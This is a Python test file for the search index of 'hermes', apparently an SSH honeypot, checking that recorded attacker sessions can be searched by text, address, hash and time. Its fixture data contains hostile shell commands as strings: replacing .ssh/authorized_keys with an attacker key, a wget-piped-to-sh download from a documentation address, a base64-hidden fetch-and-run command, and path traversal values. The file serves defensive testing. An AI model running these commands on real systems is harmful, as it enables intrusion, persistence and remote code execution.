import json
from collections.abc import Iterator
from datetime import timedelta
from ipaddress import ip_network
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from hermes import events
from hermes.analysis import search as searching
from hermes.analysis.query import Query, like, terms
from hermes.analysis.reader import IndexReader
from hermes.analysis.search import Hit, search
from hermes.analysis.spoken import as_text, spoken
from hermes.analysis.words import text_of
from hermes.config import RecordingConfig
from hermes.errors import AnalysisError
from hermes.recording import SessionRecorder
from hermes.server.backend import SessionInfo
from tests.unit.analysis.facts import NOON, both, indexed, ran, typed, visit

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAINsMPrV2BVYO3UkrrZh41pCm5zHBsBsRVe+vlm5R7zzz"
COMMANDS = (
    "/bin/busybox WOPBX",
    "cd ~ && rm -rf .ssh && mkdir .ssh",
    f'echo "ssh-ed25519 {KEY} mdrfckr">>.ssh/authorized_keys',
    "wget http://203.0.113.5:8080/bins.sh -O- | sh",
    "echo $((7*191+3)); dd if=/proc/self/exe bs=22 count=1",
    "cat /proc/cpuinfo | grep name | wc -l",
    "echo d2dldCBodHRwOi8vaGlkZGVuLmV4YW1wbGUvcGF5bG9hZA== | base64 -d | sh",
    "echo 'x\x1b]0;title\x07' ; echo \x00 ; ls naïve/Übung/文件.sh",
)


def facts() -> list[events.Event]:
    box: dict[str, Any] = {"container_id": "b", "channel": 0}
    return [
        *visit("one"),
        *ran("one", *COMMANDS),
        *visit("two", address="2001:db8::5", user="admin", country="CN", password="hunter2"),
        *typed("two", "uname -a", "ps aux"),
        events.ProcessStarted(
            pid=2,
            parent=1,
            uid=0,
            gid=0,
            program="/usr/bin/python3",
            argv=["python3", "-c", "evil"],
            cwd="/",
            **box,
            **both("two"),
        ),
        events.NetworkAttempted(
            pid=2,
            call="connect",
            family="inet",
            protocol="tcp",
            address="203.0.113.9",
            port=4444,
            outcome="ENETUNREACH",
            **box,
            **both("two"),
        ),
        events.FileWritten(path="/tmp/.x/dropper", size=3, sha256="ab" * 32, **box, **both("two")),
        events.ArtifactStored(
            sha256="ab" * 32,
            sha1="cd" * 20,
            md5="ef" * 16,
            size=3,
            path="/tmp/.x/dropper",
            source="written",
            known=False,
            **box,
            **both("two"),
        ),
        events.ForwardRequested(kind="direct-tcpip", host="smtp.example", port=25, accepted=False, **both("two")),
        events.SensorStopped(reason="asked to"),
    ]


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[IndexReader]:
    with indexed(tmp_path_factory.mktemp("index"), *facts()) as reader:
        yield reader


def ids(hits: list[Hit]) -> list[int]:
    return [it.id for it in hits]


FIRST = 7
"""Id of the first command's event."""
TWO = FIRST + len(COMMANDS)
"""Id of the second visitor's first event."""


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("/bin/busybox", 0),
        ("busybox", 0),
        ("WOPBX", 0),
        ("wopbx", 0),
        ("wop*", 0),
        ("authorized_keys", 2),
        (KEY, 2),
        ("mdrfckr", 2),
        ("wget http://203.0.113.5:8080/bins.sh", 3),
        ("203.0.113.5", 3),
        ('"rm -rf .ssh"', 1),
        ("rm -rf", 1),
        ("-rf rm", 1),
        ("$((7*191+3))", 4),
        ("if=/proc/self/exe", 4),
        ("| wc -l", 5),
        ("uebung", None),
        ("Übung", 7),
        ("ubung", 7),
        ("文件.sh", 7),
        ("naive", 7),
        (".ssh mkdir", 1),
    ],
)
def test_commands_are_found_as_people_type_them(index: IndexReader, text: str, number: int | None) -> None:
    found = [it.id for it in search(index, Query(text=text, event="channel.started")) if it.part == "event"]
    assert found == ([] if number is None else [FIRST + number])


@pytest.mark.parametrize("command", COMMANDS, ids=lambda it: it[:20])
def test_every_command_is_found_by_itself_as_a_phrase(index: IndexReader, command: str) -> None:
    assert FIRST + COMMANDS.index(command) in ids(search(index, Query(text='"' + command.replace('"', " ") + '"')))


@pytest.mark.parametrize(
    ("text", "event"),
    [
        ("hunter2", "auth.attempt"),
        ("evil", "process.started"),
        ("203.0.113.9:4444", "network.attempted"),
        ("dropper", "file.written"),
        ("smtp.example:25", "forward.requested"),
        ("SSH-2.0-Go", "connection.version"),
        ("uname", "channel.input"),
        ("2001:db8::5", "connection.opened"),
    ],
)
def test_everything_an_attacker_says_is_found(index: IndexReader, text: str, event: str) -> None:
    assert event in [it.event for it in search(index, Query(text=text, session=None))]


def test_what_stood_in_base64_is_found(index: IndexReader) -> None:
    (hit,) = search(index, Query(text="hidden.example"))
    assert (hit.id, hit.part) == (FIRST + 6, "decoded")


def test_words_of_hermes_own_are_not_found(index: IndexReader) -> None:
    assert search(index, Query(text="password")) == []
    assert search(index, Query(text="direct-tcpip")) == []


@pytest.mark.parametrize(
    ("query", "session", "count"),
    [
        (Query(network=ip_network("192.0.2.0/24")), "one", 15),
        (Query(network=ip_network("192.0.2.7/32")), "one", 15),
        (Query(network=ip_network("2001:db8::/32")), "two", 13),
        (Query(country="CN"), "two", 13),
        (Query(hassh="hassh-of-admin"), "two", 13),
        (Query(user="admin"), "two", 13),
        (Query(session="two"), "two", 13),
        (Query(session="tw"), "two", 13),
        (Query(network=ip_network("198.51.100.0/24")), "none", 0),
        (Query(user="root", country="CN"), "none", 0),
        (Query(text="ps", user="admin"), "two", 1),
        (Query(text="ps", user="root"), "none", 0),
        (Query(host="203.0.113.5"), "one", 1),
        (Query(event="process.*"), "two", 1),
        (Query(event="process.started", text="evil"), "two", 1),
        (Query(event="none"), "none", 0),
    ],
)
@pytest.mark.parametrize("few", [0, 2000])
def test_filters(index: IndexReader, query: Query, session: str, count: int, few: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever the way that is walked."""
    monkeypatch.setattr(searching, "FEW", few)
    found = search(index, query)
    assert {it.session_id for it in found} == ({session} if count else set())
    assert len(found) == count
    assert ids(found) == sorted(ids(found), reverse=True)


@pytest.mark.parametrize("value", ["ab" * 32, "AB" * 32, "cd" * 20, "ef" * 16])
def test_a_file_is_found_by_any_of_its_hashes(index: IndexReader, value: str) -> None:
    assert [it.event for it in search(index, Query(hash=value))] == ["artifact.stored", "file.written"]


def test_other_hashes_find_nothing_and_what_is_none_is_refused(index: IndexReader) -> None:
    assert search(index, Query(hash="0" * 64)) == search(index, Query(hash="0" * 32)) == []
    with pytest.raises(AnalysisError, match="SHA-256"):
        search(index, Query(hash='" OR x'))


def test_times_bound_what_is_found(index: IndexReader) -> None:
    at = [NOON + timedelta(seconds=it) for it in range(60)]
    assert ids(search(index, Query(since=at[TWO + 6]))) == list(range(TWO + 13, TWO + 6, -1))
    assert ids(search(index, Query(until=at[2]))) == [2, 1]
    assert ids(search(index, Query(text="root", since=at[4], until=at[5]))) == [5]
    assert search(index, Query(since=NOON + timedelta(days=400))) == search(index, Query(until=NOON - timedelta(days=400))) == []


def test_newest_come_first_and_a_limit_cuts_the_oldest(index: IndexReader) -> None:
    everything = ids(search(index, Query(limit=1000)))
    assert everything == sorted(everything, reverse=True)
    assert ids(search(index, Query(limit=3))) == everything[:3]


def test_a_piece_of_a_word_is_found_where_it_is_asked_for(index: IndexReader) -> None:
    assert search(index, Query(text="usybo")) == []
    (hit,) = search(index, Query(text="USYBO", syntax="substring"))
    assert hit.snippet == [("/bin/b", False), ("usybo", True), ("x WOPBX", False)]
    assert search(index, Query(text="%", syntax="substring")) == search(index, Query(text="b_sybox", syntax="substring")) == []


def test_a_piece_of_any_length_is_found(tmp_path: Path) -> None:
    long = "".join(f"{number:x}_" for number in range(20_000))
    with indexed(tmp_path, *visit("a"), *ran("a", f"echo {long}", "a\0b")) as index:
        assert ids(search(index, Query(text=long[:70_000], syntax="substring"))) == [7]
        assert ids(search(index, Query(text='"' + long + '"'))) == [7]
        assert ids(search(index, Query(text="a\0b", syntax="substring"))) == [8]


def test_an_expression_of_fts5_is_taken_as_it_is(index: IndexReader) -> None:
    assert ids(search(index, Query(text="busybox OR cpuinfo NOT nothing", syntax="fts5"))) == [FIRST + 5, FIRST]
    for wrong in ("AND", '"open', "nocolumn:x", "NEAR(", "a b )"):
        with pytest.raises(AnalysisError, match="FTS5"):
            search(index, Query(text=wrong, syntax="fts5"))


def test_the_place_that_was_found_is_marked(index: IndexReader) -> None:
    (hit,) = search(index, Query(text="203.0.113.5 wget", event="channel.started"))
    assert [it for it, marked in hit.snippet if marked] == ["wget", "203.0.113.5"]
    assert "".join(it for it, _ in hit.snippet) == COMMANDS[3]


@hypothesis_settings(max_examples=200, deadline=None)
@given(
    st.one_of(
        st.text(),
        st.lists(st.sampled_from(['"', "*", "AND", "NOT", "(", "^", ":", "-", "+", "\0", "a", "{", " ", "NEAR"])).map("".join),
    )
)
def test_no_words_are_a_wrong_query(index: IndexReader, text: str) -> None:
    search(index, Query(text=text.encode(errors="replace").decode(), limit=3))
    search(index, Query(text=text.encode(errors="replace").decode(), limit=3, syntax="substring"))


@pytest.mark.parametrize(
    ("text", "match", "literals"),
    [
        ("wget sh", '"wget" "sh"', ()),
        ('"rm -rf" x', '"rm -rf" "x"', ()),
        ("bus*", '"bus" *', ()),
        ("*", "", ("*",)),
        ("a && b", '"a" "b"', ("&&",)),
        ('say"hi', '"say""hi"', ()),
        ('"open', '"open"', ()),
        ("/tmp/*", '"/tmp/"', ()),
        ("", "", ()),
        ('""', "", ()),
        ('"bus"*', '"bus" *', ()),
    ],
)
def test_how_words_are_read(text: str, match: str, literals: tuple[str, ...]) -> None:
    found = terms(text)
    assert (found.match, found.literals) == (match, literals)


def test_a_pattern_holds_no_wildcards_of_others() -> None:
    assert like("50%_\\") == "%50\\%\\_\\\\%"


# ---- texts


def test_an_event_that_is_not_known_is_found_by_all_its_text() -> None:
    body = {"event": "new.event", "connection_id": "c", "note": "what\0ever", "list": ["a", 1], "number": 5, "rule": "hermes"}
    assert text_of("new.event", body) == "what ever a"


def test_a_process_is_found_by_its_program_and_arguments() -> None:
    assert text_of("process.started", {"program": "/bin/ls", "argv": ["ls", "-l"]}) == "/bin/ls ls -l"
    assert text_of("process.started", {"program": "ls", "argv": ["ls", "-l"]}) == "ls -l"
    assert text_of("process.started", {}) == ""


# ---- what was printed


def record(root: Path, name: str, output: bytes, given: bytes = b"", *, channel: int = 0, kind: str = "exec") -> str:
    recorder = SessionRecorder(
        RecordingConfig(), SessionInfo(name, "root", "192.0.2.7", 1), channel=channel, kind=kind, output_dir=root
    )
    recorder.start()
    if given:
        recorder.input(given)
    recorder.output(output)
    recorder.close()
    return recorder.relative_path


def started(name: str, recording: str, channel: int = 0, kind: str = "exec") -> events.Event:
    return events.ChannelStarted(
        channel=channel, kind=kind, command="x" if kind == "exec" else None, recording=recording, **both(name)
    )


def closed(name: str, channel: int = 0) -> events.Event:
    return events.ChannelClosed(channel=channel, duration=1, bytes_in=0, bytes_out=0, **both(name))


def test_what_a_channel_printed_and_was_given_is_found_once_it_is_over(tmp_path: Path) -> None:
    (tmp_path / "recordings").mkdir()
    exec_ = record(tmp_path / "recordings", "one", b"\x1b[1;32mpass\x1b[0mword file\r\n", b"#!/bin/sh\nwhoami\n")
    shell = record(tmp_path / "recordings", "one", b"root@srv01:~# ", b"typed\r", channel=1, kind="shell")
    open_ = record(tmp_path / "recordings", "one", b"never closed", channel=2)
    story = [
        *visit("one"),
        started("one", exec_),
        started("one", shell, 1, "shell"),
        started("one", open_, 2),
        closed("one"),
        closed("one", 1),
    ]
    with indexed(tmp_path, *story) as index:
        (hit,) = search(index, Query(text="password"))
        assert (hit.id, hit.event, hit.part, hit.session_id, hit.channel) == (7, "channel.started", "output", "one", 0)
        assert [it.part for it in search(index, Query(text="whoami"))] == ["input"]
        assert [it.id for it in search(index, Query(text="srv01"))] == [8]
        assert search(index, Query(text="typed")) == search(index, Query(text="never")) == []


@pytest.mark.parametrize("end", ["session", "sensor"])
def test_channels_that_were_never_closed_are_over_when_their_session_or_sensor_is(tmp_path: Path, end: str) -> None:
    (tmp_path / "recordings").mkdir()
    story = [*visit("one"), started("one", record(tmp_path / "recordings", "one", b"torn away"))]
    if end == "session":
        story.append(events.SessionClosed(cause="lost", duration=0, channels=1, bytes_in=0, bytes_out=0, **both("one")))
    else:
        story.append(events.SensorStarted(version="1", addresses=[], engine="local", image="i"))
    with indexed(tmp_path, *story) as index:
        assert [it.part for it in search(index, Query(text="torn"))] == ["output"]


def test_how_much_of_a_channel_is_found_is_a_setting(tmp_path: Path) -> None:
    (tmp_path / "recordings").mkdir()
    recording = record(tmp_path / "recordings", "one", b"first " + b"." * 4000 + b" last")
    story = [*visit("one"), started("one", recording), closed("one")]
    with indexed(tmp_path, *story, output_bytes=1000) as index:
        assert len(search(index, Query(text="first"))) == 1
        assert search(index, Query(text="last")) == []
    (tmp_path / "index" / "index.db").unlink()
    with indexed(tmp_path, *story, output_bytes=0) as index:
        assert search(index, Query(text="first")) == []


@pytest.mark.parametrize(
    "place", ["../../etc/passwd", "2026-01-31/one/0.rec", "/etc/passwd", "2026-01-31/../0.cast", "2026-01-31/gone/0.cast", ""]
)
def test_a_place_that_is_no_recording_is_not_read(tmp_path: Path, place: str) -> None:
    assert spoken(tmp_path, place, 1000) == ("", "")


def test_a_program_that_was_printed_is_no_text() -> None:
    assert as_text(bytes(range(256)) * 20) == ""
    assert as_text(b"plain \x1b]0;title\x07\x1b[31mred\x1b[0m\ttab\x00\n") == "plain red\ttab \n"
    assert as_text(b"") == ""


def test_a_text_is_kept_once(tmp_path: Path) -> None:
    with indexed(tmp_path, *visit("a"), *ran("a", *["uname -a"] * 50)) as index:
        assert index.query("SELECT count(*) FROM documents_texts WHERE text = 'uname -a'") == [(1,)]
        assert len(search(index, Query(text="uname"))) == 50


def test_text_that_is_not_utf_8_or_longer_than_any_hides_nothing(tmp_path: Path) -> None:
    long = "a" * 40_000 + " needle " + "b" * 300_000
    with indexed(tmp_path, *visit("a"), *ran("a", long), *typed("a", "x \ud800 y")) as index:
        assert ids(search(index, Query(text="needle"))) == [7]
        assert ids(search(index, Query(text="x y"))) == [8]
        json.dumps([it.text for it in search(index, Query(limit=10))])
